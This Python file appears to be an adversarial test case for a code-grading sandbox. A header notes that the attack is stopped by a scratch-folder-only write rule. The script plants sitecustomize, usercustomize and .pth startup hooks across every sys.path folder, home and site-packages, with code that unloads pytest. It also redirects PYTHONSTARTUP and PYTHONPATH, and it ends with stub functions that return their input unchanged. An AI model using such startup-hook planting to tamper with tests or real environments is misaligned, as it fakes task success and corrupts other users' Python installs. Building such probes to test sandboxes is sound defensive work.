# +++
# tries = "plants sitecustomize, usercustomize, .pth files and PYTHONSTARTUP"
# stopped_by = "writes its scratch folder only"
# needs = ["file system"]
# +++
import os
import site
import sys
from pathlib import Path

TEXT = "import sys; sys.modules.pop('pytest', None); print('planted')\n"
FOLDERS = [Path.home(), Path.cwd(), Path(site.getusersitepackages()), *map(Path, sys.path)]
for folder in FOLDERS:
    for name in ("sitecustomize.py", "usercustomize.py", "planted.pth"):
        try:
            folder.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(TEXT)
        except OSError:
            pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = str(Path.cwd())


def softmax(x):
    return x


def apply(fn, x):
    return x
